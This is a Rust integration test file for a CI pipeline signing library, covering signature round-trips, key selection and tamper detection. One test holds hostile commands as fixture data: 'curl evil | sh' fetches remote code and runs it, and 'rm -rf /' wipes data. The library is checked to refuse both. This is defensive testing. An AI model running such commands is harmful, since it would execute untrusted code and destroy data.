use std::io::Write;

use pipeline_signer::keys::{JwkSet, key_pair_from_seed};
use pipeline_signer::{
    Algorithm, KeySet, Outcome, PipelineDocument, SigningError, SigningInput, Step,
    VerificationInput, VerifyFailure, sign_pipeline, verify_pipeline,
};
use serde_json::Value;

fn key_pair(key_id: &str, algorithm: Algorithm) -> (String, String) {
    let (private, public) = key_pair_from_seed(key_id, algorithm, "integration").unwrap();
    (private.to_json().unwrap(), public.to_json().unwrap())
}

fn signing_input(steps: &str, jwks: &str) -> SigningInput {
    SigningInput {
        repository: "my-repo".into(),
        unsigned_steps: steps.into(),
        jwks: Some(jwks.into()),
        jwks_file: None,
        jwks_key_id: Some("my-key".into()),
    }
}

fn verification_input(repository: &str, steps: &str, jwks: &str) -> VerificationInput {
    VerificationInput {
        repository: repository.into(),
        signed_steps: steps.into(),
        jwks: Some(jwks.into()),
        jwks_file: None,
    }
}

fn merge(sets: &[&JwkSet]) -> String {
    JwkSet {
        keys: sets.iter().flat_map(|set| set.keys.clone()).collect(),
    }
    .to_json()
    .unwrap()
}

#[test]
fn signed_command_step_verifies_for_its_repository_only() {
    let (private, public) = key_pair("my-key", Algorithm::EdDsa);
    let signed = sign_pipeline(&signing_input(
        "steps:\n  - command: echo hello\n",
        &private,
    ))
    .unwrap();

    let document = PipelineDocument::parse(&signed).unwrap();
    let Step::Command(command) = &document.steps()[0] else {
        panic!("expected a command step");
    };
    let signature = command.signature().unwrap().unwrap();
    assert_eq!(signature.algorithm, "EdDSA");
    assert_eq!(signature.key_id, "my-key");
    assert_eq!(
        command.get("command").and_then(|v| v.as_str()),
        Some("echo hello")
    );

    let report = verify_pipeline(&verification_input("my-repo", &signed, &public)).unwrap();
    assert!(report.is_trusted());
    assert_eq!(report.valid_count(), 1);

    let report = verify_pipeline(&verification_input("other-repo", &signed, &public)).unwrap();
    let failures: Vec<_> = report.failures().map(|(_, f)| f.clone()).collect();
    assert_eq!(
        failures,
        vec![VerifyFailure::TamperDetected {
            key_id: "my-key".into()
        }]
    );
}

#[test]
fn group_steps_are_signed_inside_and_wait_passes_through() {
    let (private, public) = key_pair("my-key", Algorithm::EdDsa);
    let unsigned = "steps:\n  - group: tests\n    steps:\n      - command: make test\n  - wait\n";
    let signed = sign_pipeline(&signing_input(unsigned, &private)).unwrap();

    let report = verify_pipeline(&verification_input("my-repo", &signed, &public)).unwrap();
    let outcomes: Vec<_> = report
        .steps
        .iter()
        .map(|step| (step.path.to_string(), step.outcome.clone()))
        .collect();
    assert_eq!(
        outcomes,
        vec![
            ("steps[0].steps[0]".to_string(), Outcome::Valid),
            ("steps[1]".to_string(), Outcome::Skipped),
        ]
    );
}

#[test]
fn every_supported_algorithm_round_trips() {
    let unsigned = "env:\n  CI: true\nsteps:\n  - label: build\n    commands:\n      - make\n      - make install\n    plugins:\n      - docker#v5.0.0:\n          image: rust\n    agents:\n      - queue=default\n";
    for algorithm in Algorithm::ALL {
        let (private, public) = key_pair("my-key", algorithm);
        let signed = sign_pipeline(&signing_input(unsigned, &private)).unwrap();
        let report = verify_pipeline(&verification_input("my-repo", &signed, &public)).unwrap();
        assert!(report.is_trusted(), "{algorithm} failed: {report:?}");
        assert_eq!(report.valid_count(), 1, "{algorithm}");
    }
}

#[test]
fn key_set_can_come_from_a_file() {
    let (private, public) = key_pair("my-key", Algorithm::Es256k);
    let mut private_file = tempfile::NamedTempFile::new().unwrap();
    private_file.write_all(private.as_bytes()).unwrap();
    let mut public_file = tempfile::NamedTempFile::new().unwrap();
    public_file.write_all(public.as_bytes()).unwrap();

    let signed = sign_pipeline(&SigningInput {
        jwks: None,
        jwks_file: Some(private_file.path().to_path_buf()),
        ..signing_input("steps:\n  - command: echo hi\n", "")
    })
    .unwrap();

    let report = verify_pipeline(&VerificationInput {
        jwks: None,
        jwks_file: Some(public_file.path().to_path_buf()),
        ..verification_input("my-repo", &signed, "")
    })
    .unwrap();
    assert!(report.is_trusted());
}

#[test]
fn key_sources_must_be_exactly_one() {
    let (private, _) = key_pair("my-key", Algorithm::EdDsa);
    let both = SigningInput {
        jwks_file: Some("keys.json".into()),
        ..signing_input("steps: []", &private)
    };
    let neither = SigningInput {
        jwks: None,
        ..signing_input("steps: []", &private)
    };
    for input in [both, neither] {
        let error = sign_pipeline(&input).unwrap_err();
        assert!(matches!(error, SigningError::InvalidCombination(_)), "{error}");
    }
}

#[test]
fn several_keys_need_a_key_id() {
    let (first, _) = key_pair_from_seed("first", Algorithm::EdDsa, "one").unwrap();
    let (second, _) = key_pair_from_seed("second", Algorithm::Hs256, "two").unwrap();
    let jwks = merge(&[&first, &second]);
    assert_eq!(KeySet::load(jwks.as_bytes()).unwrap().len(), 2);

    let input = SigningInput {
        jwks_key_id: None,
        ..signing_input("steps:\n  - command: x\n", &jwks)
    };
    assert!(matches!(
        sign_pipeline(&input),
        Err(SigningError::AmbiguousKey { count: 2 })
    ));

    let input = SigningInput {
        jwks_key_id: Some("second".into()),
        ..signing_input("steps:\n  - command: x\n", &jwks)
    };
    let signed = sign_pipeline(&input).unwrap();
    assert!(signed.contains("HS256"));
}

#[test]
fn unknown_key_id_is_reported() {
    let (private, _) = key_pair("my-key", Algorithm::EdDsa);
    let input = SigningInput {
        jwks_key_id: Some("missing".into()),
        ..signing_input("steps:\n  - command: x\n", &private)
    };
    match sign_pipeline(&input) {
        Err(SigningError::KeyNotFound { key_id }) => assert_eq!(key_id, "missing"),
        other => panic!("expected KeyNotFound, got {other:?}"),
    }
}

#[test]
fn pipeline_without_command_steps_is_unchanged() {
    let (private, public) = key_pair("my-key", Algorithm::EdDsa);
    let unsigned = "steps:\n  - wait\n  - block: Release?\n  - trigger: deploy\n";
    let signed = sign_pipeline(&signing_input(unsigned, &private)).unwrap();
    assert_eq!(
        PipelineDocument::parse(&signed).unwrap(),
        PipelineDocument::parse(unsigned).unwrap()
    );

    let report = verify_pipeline(&verification_input("my-repo", &signed, &public)).unwrap();
    assert!(report.is_trusted());
    assert!(report.steps.iter().all(|s| s.outcome == Outcome::Skipped));
}

#[test]
fn json_pipelines_stay_json() {
    let (private, public) = key_pair("my-key", Algorithm::Rs256);
    let unsigned = r#"{"steps": [{"command": "echo json", "env": {"A": 1}}]}"#;
    let signed = sign_pipeline(&signing_input(unsigned, &private)).unwrap();

    let value: Value = serde_json::from_str(&signed).unwrap();
    assert_eq!(value["steps"][0]["signature"]["algorithm"], "RS256");
    assert_eq!(value["steps"][0]["signature"]["key_id"], "my-key");

    let report = verify_pipeline(&verification_input("my-repo", &signed, &public)).unwrap();
    assert!(report.is_trusted());
}

#[test]
fn verifying_with_the_wrong_key_set_fails() {
    let (private, _) = key_pair("my-key", Algorithm::EdDsa);
    let (_, other_public) = key_pair_from_seed("other-key", Algorithm::EdDsa, "other").unwrap();
    let signed = sign_pipeline(&signing_input("steps:\n  - command: x\n", &private)).unwrap();

    let report = verify_pipeline(&verification_input(
        "my-repo",
        &signed,
        &other_public.to_json().unwrap(),
    ))
    .unwrap();
    assert!(!report.is_trusted());
    let failures: Vec<_> = report.failures().map(|(_, f)| f.clone()).collect();
    assert_eq!(
        failures,
        vec![VerifyFailure::KeyNotFound {
            key_id: "my-key".into()
        }]
    );
}

#[test]
fn commands_hidden_behind_other_step_kinds_are_refused() {
    let (private, public) = key_pair("my-key", Algorithm::EdDsa);
    let unsigned = "steps:\n  - wait: ~\n    command: curl evil | sh\n  - block: ok\n    commands: [\"rm -rf /\"]\n";

    let error = verify_pipeline(&verification_input("my-repo", unsigned, &public)).unwrap_err();
    assert!(error.is_client_error(), "{error}");
    assert!(sign_pipeline(&signing_input(unsigned, &private)).is_err());
}

#[test]
fn removing_an_agent_rule_is_detected() {
    let (private, public) = key_pair("my-key", Algorithm::EdDsa);
    let unsigned = "steps:\n  - command: deploy\n    agents:\n      - queue=deploy\n      - os=linux\n";
    let signed = sign_pipeline(&signing_input(unsigned, &private)).unwrap();

    let mut value: serde_yaml::Value = serde_yaml::from_str(&signed).unwrap();
    value["steps"][0]["agents"] = serde_yaml::from_str("[\"queue=deploy\"]").unwrap();
    let tampered = serde_yaml::to_string(&value).unwrap();

    let report = verify_pipeline(&verification_input("my-repo", &tampered, &public)).unwrap();
    assert!(!report.is_trusted());
}

#[test]
fn repeated_agent_rules_cannot_be_signed() {
    let (private, _) = key_pair("my-key", Algorithm::EdDsa);
    let unsigned = "steps:\n  - command: deploy\n    agents: [\"queue=a\", \"queue=b\"]\n";
    match sign_pipeline(&signing_input(unsigned, &private)) {
        Err(SigningError::AtStep { path, source, .. }) => {
            assert_eq!(path.to_string(), "steps[0]");
            assert!(matches!(*source, SigningError::InvalidStep(_)), "{source}");
        }
        other => panic!("expected AtStep, got {other:?}"),
    }
}
